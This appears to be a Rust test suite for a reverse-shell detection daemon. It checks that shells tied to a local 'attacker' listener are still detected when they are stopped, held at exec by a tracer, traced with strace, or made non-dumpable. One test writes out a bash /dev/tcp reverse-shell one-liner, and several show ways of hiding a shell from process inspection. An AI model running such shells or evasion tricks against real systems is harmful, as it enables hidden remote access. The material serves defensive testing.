//! Shells that are stopped or traced, and processes that nobody else's may look into.

use std::os::unix::fs::PermissionsExt;
use std::process::{Command, Stdio};

use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;

use crate::common::attacker::Listener;
use crate::common::daemon::Daemon;
use crate::common::programs::program;
use crate::common::victim::Victim;
use crate::common::wait_for;
use crate::{alone, found, is_of, on_socket, require, shell};

const HOLD: &str = "[sensor]\nfanotify = \"hold\"\n";

/// It stops itself as the first thing that it does, or is stopped by another as soon as it is there.
#[test]
fn a_stopped_shell() {
    let _alone = alone();
    require!();
    let daemon = Daemon::shared();
    let port = Listener::tcp().swallow();
    let (_victim, own) = on_socket(port, shell("kill -STOP $$"));
    assert_eq!(found(daemon, own).row(), 1);
    for _ in 0..5 {
        let (victim, own) = on_socket(port, shell("read line"));
        kill(Pid::from_raw(victim.pid().cast_signed()), Signal::SIGSTOP).unwrap();
        let record = found(daemon, own);
        assert_eq!(record.row(), 1, "{}", record.brief());
        assert!(record.process(victim.pid()).is_some());
    }
}

/// A tracer keeps it where its exec is done: the kernel tells of the exec only when it goes on (Linux `fs/exec.c`: the
/// tracer hears of it first), and nothing of it runs before. It is found at once then, and by a sweep meanwhile.
#[test]
fn a_shell_kept_in_its_exec() {
    require!("gcc");
    let _alone = alone();
    for config in ["[sensor]\nsweep_seconds = 5\n".to_owned(), HOLD.to_owned()] {
        let daemon = Daemon::start(&config);
        let attacker = Listener::tcp();
        let port = attacker.port().to_string();
        let mut command = Command::new(program("tracer"));
        command.args(["127.0.0.1", &port, "/bin/sh", "-c", "read line; /bin/sleep 0.2"]);
        command.stdin(Stdio::piped()).stdout(Stdio::piped());
        let mut victim = Victim::ready(command, "held");
        let mut session = attacker.accept();
        if config != HOLD {
            let record = daemon.wait_for("it is found while it is kept", |r| is_of(r, attacker.port()));
            assert_eq!((record.row(), record.text("Observation")), (1, "swept"), "{}", record.brief());
        }
        victim.say("go\n");
        session.send("\n");
        let record = daemon.wait_for("its command", |record| {
            is_of(record, attacker.port()) && record.ran(&["/bin/sleep", "0.2"])
        });
        assert_eq!(record.row(), 1, "{}", record.brief());
        victim.wait();
        // No exec of anybody else waited for it.
        assert_eq!(daemon.lost("deadline_missed"), 0);
        daemon.stop();
    }
}

/// Under a debugger from first to last.
#[test]
fn a_traced_shell() {
    require!("strace");
    let _alone = alone();
    let daemon = Daemon::shared();
    let attacker = Listener::tcp();
    let line = format!(
        "exec strace -f -o /dev/null bash -c 'exec bash --norc >&/dev/tcp/127.0.0.1/{} 0>&1'",
        attacker.port()
    );
    let victim = Victim::start("/bin/bash", &["-c", &line]);
    let mut session = attacker.accept();
    session.run("/bin/sleep 0.2");
    let record = daemon.wait_for("the traced shell and its command", |record| {
        is_of(record, attacker.port()) && record.ran(&["/bin/sleep", "0.2"])
    });
    assert_eq!(record.row(), 1, "{}", record.brief());
    session.exit();
    drop(victim);
}

/// A program that nobody may read makes its process one that others of the same user may not look into (dumpable 0).
#[test]
fn a_shell_that_is_not_dumpable() {
    require!("setpriv");
    let _alone = alone();
    let daemon = Daemon::shared();
    let directory = tempfile::tempdir().unwrap();
    std::fs::set_permissions(directory.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let path = directory.path().join("sh");
    assert!(Command::new("cp").args(["/bin/sh".as_ref(), path.as_path()]).status().unwrap().success());
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o111)).unwrap();
    let port = Listener::tcp().swallow();
    let mut command = Command::new("setpriv");
    command.args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"]).arg(&path);
    command.args(["-c", "read line"]).env("PATH", "/usr/bin:/bin");
    let (victim, own) = on_socket(port, command);
    let record = daemon.wait_for("the shell", |record| {
        is_of(record, own) && record.ran(&[path.to_str().unwrap(), "-c", "read line"])
    });
    assert_eq!(record.row(), 1, "{}", record.brief());
    assert_eq!(record.process(victim.pid()).unwrap()["userId"], "65534");
}

/// And one that says so of itself, and executes nothing: Python's own loop on a socket.
#[test]
fn an_interpreter_that_is_not_dumpable() {
    require!("/usr/bin/python3", "setpriv");
    let _alone = alone();
    let daemon = Daemon::shared();
    let port = Listener::tcp().swallow();
    let code =
        "import ctypes,os,sys\nctypes.CDLL(None).prctl(4,0,0,0,0)\nprint('.',flush=True)\nsys.stdin.read()";
    let mut command = Command::new("setpriv");
    command.args(["--reuid=65534", "--regid=65534", "--clear-groups", "/usr/bin/python3", "-c", code]);
    let (victim, own) = on_socket(port, command);
    let record =
        daemon.wait_for("the interpreter", |r| is_of(r, own) && r.ran(&["/usr/bin/python3", "-c", code]));
    assert!([1, 7].contains(&record.row()), "{}", record.brief());
    let owner = || std::fs::metadata(format!("/proc/{}/status", victim.pid())).unwrap();
    wait_for("it belongs to root", || (std::os::unix::fs::MetadataExt::uid(&owner()) == 0).then_some(()));
}
